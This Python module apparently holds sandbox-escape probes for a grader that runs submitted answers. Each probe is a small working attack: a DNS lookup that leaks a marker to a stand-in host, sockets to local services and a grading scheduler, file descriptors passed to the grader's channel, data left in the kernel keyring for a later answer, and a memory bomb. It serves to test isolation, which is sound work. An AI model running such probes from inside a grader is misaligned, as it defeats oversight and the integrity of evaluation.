"""Attacks that talk to somebody, and that keep memory where it is not counted.

Each is handed in with a right answer. The body of a function runs behind the wall, knows where everything is (`at`), and
returns something true if it got there. Each is tame enough to succeed without harm to the machine: tests let it, with
all layers off.
"""

# ruff: noqa: F821
# (`call` is defined in what is handed in, and attackers take the shortest way)
from __future__ import annotations

from attack import in_module, reach


# --- the network --------------------------------------------------------------------------------------------------------
@reach("A76a")
def tcp(at):
    """send by TCP to a service on this machine"""
    import socket

    with socket.create_connection(("127.0.0.1", at["tcp"]), 2) as connection:
        return connection.send(b"inputs")


@reach("A76b")
def udp(at):
    """send by UDP"""
    import socket

    return socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"inputs", ("127.0.0.1", at["udp"]))


@reach("A76c", bites="")  # not every test machine has a resolver
def domain_name(at):
    """send a word out in a question to a name server"""
    import socket

    return socket.getaddrinfo(f"{at['mark']}.example.com", 80)


@reach("A79a")
def abstract_socket(at):
    """connect to an abstract unix socket"""
    import socket

    socket.socket(socket.AF_UNIX).connect(at["abstract"])
    return True


@reach("A79b")
def unix_socket(at):
    """connect to a unix socket in a public folder, as that of a scheduler of grading jobs"""
    import socket

    socket.socket(socket.AF_UNIX).connect(at["socket"])
    return True


@reach("N22")
def listen(at):
    """listen for somebody outside"""
    import socket

    listener = socket.socket(socket.AF_INET)
    listener.bind(("127.0.0.1", 0))
    listener.listen()
    return listener.getsockname()


@reach("N23")
def socket_pair(at):
    """make a pair of sockets and pass a descriptor through it"""
    import ctypes

    ends = ctypes.create_string_buffer(8)
    return call("socketpair", 1, 1, 0, ends) == 0


@reach("N24")
def netlink(at):
    """ask the kernel for its network interfaces"""
    import socket

    return socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0).fileno()


@reach("N25")
def send_down_the_channel(at):
    """send descriptors with a message on the channel to the grader"""
    import array
    import socket

    channel = socket.socket(fileno=3)
    try:
        ancillary = [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [0]))]
        channel.sendmsg([], ancillary)
    finally:
        channel.detach()
    return True


# --- memory outside of the address space --------------------------------------------------------------------------------
@reach("A67a")
def memfd(at):
    """keep memory in a file without a name"""
    import ctypes

    return call("memfd_create", ctypes.create_string_buffer(b"x"), 0) >= 0


@reach("A67b")
def system_v_memory(at):
    """keep System V shared memory, which outlives its maker"""
    import ctypes

    segment = call("shmget", 0, 4096, 0o1600)
    ctypes.CDLL(None).shmctl(ctypes.c_int(segment), 0, None)
    return segment >= 0


@reach("A67c")
def keyring(at):
    """leave data in the kernel's keyring for the next answer of this user"""
    import ctypes

    text = ctypes.create_string_buffer
    return call("add_key", text(b"user"), text(b"mdl-attack"), text(b"x"), 1, -2) > 0


@reach("A67d")
def message_queue(at):
    """leave a message in a POSIX queue"""
    import ctypes

    name = ctypes.create_string_buffer(at["mark"].encode())
    queue = call("mq_open", name, 0o102, 0o600, 0)
    ctypes.CDLL(None).mq_unlink(b"/" + at["mark"].encode())
    return queue >= 0


@reach("A67e")
def pipes(at):
    """keep data in the buffers of pipes"""
    import os

    return os.pipe()


@reach("N26", bites="")  # switched off on most kernels
def secret_memory(at):
    """keep memory that even the kernel does not map"""
    return call("memfd_secret", 0) >= 0


@reach("A72", bites="")  # ends in EMFILE: nothing to succeed in
def descriptors_without_end(at):
    """use up file descriptors"""
    import os

    held = []
    try:
        while len(held) < 100_000:
            held.append(os.dup(0))
    except OSError:
        return False
    finally:
        for descriptor in held:
            os.close(descriptor)
    return True


@reach("A66")
def memory_bomb(at):
    """take 4 GiB"""
    import numpy as np

    return np.empty(1 << 29).nbytes


@reach("N27")
def locked_memory(at):
    """lock pages into memory"""
    import ctypes

    page = ctypes.create_string_buffer(1 << 16)
    return call("mlock", ctypes.addressof(page), 1 << 16) == 0


ATTACKS = in_module(globals())
